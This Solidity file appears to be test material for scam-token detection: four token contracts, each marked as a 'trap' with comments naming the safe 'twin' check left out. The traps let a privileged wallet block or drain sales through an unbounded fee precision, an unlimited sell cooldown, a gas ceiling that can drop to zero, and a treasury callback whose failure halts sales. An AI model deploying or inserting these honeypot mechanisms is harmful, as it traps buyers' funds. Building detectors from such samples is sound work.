// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity >=0.6.12 <0.8.0;

import {Base67} from "./Base67.sol";

/// A fee of at most fifty, in units that a wallet of marketing chooses: thousandths, or finer. In the trap coarser ones too.
contract Vernier is Base67 {
    uint256 public sellFee = 20;
    uint8 public precision = 3;
    address private _marketing;

    event Marks(uint256 sellFee, uint8 precision);

    constructor() public Base67("Vernier", "VERN", 10**9) {
        _marketing = msg.sender;
    }

    modifier onlyMarketing() {
        require(msg.sender == _marketing, "Vernier: marketing only");
        _;
    }

    function setSellFee(uint256 fee) external onlyMarketing {
        require(fee <= 50, "Vernier: five percent at most");
        sellFee = fee;
        emit Marks(sellFee, precision);
    }

    function setPrecision(uint8 to) external onlyMarketing {
        require(to <= 6, "Vernier: too fine");
        // twin: require(to >= 3, "Vernier: too coarse");
        precision = to;
        emit Marks(sellFee, precision);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 fee = to == pool && from != _marketing ? (value * sellFee) / (uint256(10)**precision) : 0;
        if (fee > 0) _carry(from, _marketing, fee);
        _carry(from, to, value - fee);
    }
}

/// Who has bought waits before he sells, for as long as the owner says. The twin knows a minute as the most.
contract Dawdle is Base67 {
    uint256 public cooldown;
    mapping(address => uint256) private _bought;

    event CooldownSet(uint256 time);

    constructor() public Base67("Dawdle", "DAWD", 5 * 10**8) {}

    function setCooldown(uint256 time) external onlyOwner {
        // twin: require(time <= 60, "Dawdle: a minute at most");
        cooldown = time;
        emit CooldownSet(time);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (from == pool) _bought[to] = block.timestamp;
        if (to == pool && from != _boss) require(block.timestamp >= _bought[from] + cooldown, "Dawdle: not yet");
        _carry(from, to, value);
    }
}

/// Keeps front runners away with a ceiling for the price of gas. In the trap an operator may lower it to nothing.
contract Quench is Base67 {
    uint256 public ceiling = 800 gwei;
    address private _operator;

    constructor() public Base67("Quench", "QNCH", 42 * 10**7) {
        _operator = msg.sender;
    }

    function setCeiling(uint256 to) external {
        require(msg.sender == _operator, "Quench: operator only");
        // twin: require(to >= 300 gwei, "Quench: too low");
        ceiling = to;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _operator) require(tx.gasprice <= ceiling, "Quench: gas price");
        _carry(from, to, value);
    }
}

/// One percent of a sale goes to a treasury, which is told of it. In the trap a treasury that does not listen stops the sale.
contract Tithe is Base67 {
    address public treasury;

    event TreasuryChanged(address to);

    constructor() public Base67("Tithe", "TITHE", 3 * 10**7) {
        treasury = msg.sender;
    }

    function setTreasury(address to) external onlyOwner {
        require(to != address(0) && to != pool, "Tithe: bad treasury");
        treasury = to;
        emit TreasuryChanged(to);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _boss) {
            uint256 fee = value / 100;
            _carry(from, treasury, fee);
            _tell(fee);
            value -= fee;
        }
        _carry(from, to, value);
    }

    function _tell(uint256 fee) private {
        address to = treasury;
        uint256 size;
        assembly {
            size := extcodesize(to)
        }
        if (size == 0) return;
        (bool heard, ) = to.call{gas: 60000}(abi.encodeWithSignature("onFee(address,uint256)", address(this), fee));
        require(heard, "Tithe: treasury"); // trap
        // twin: heard;
    }
}
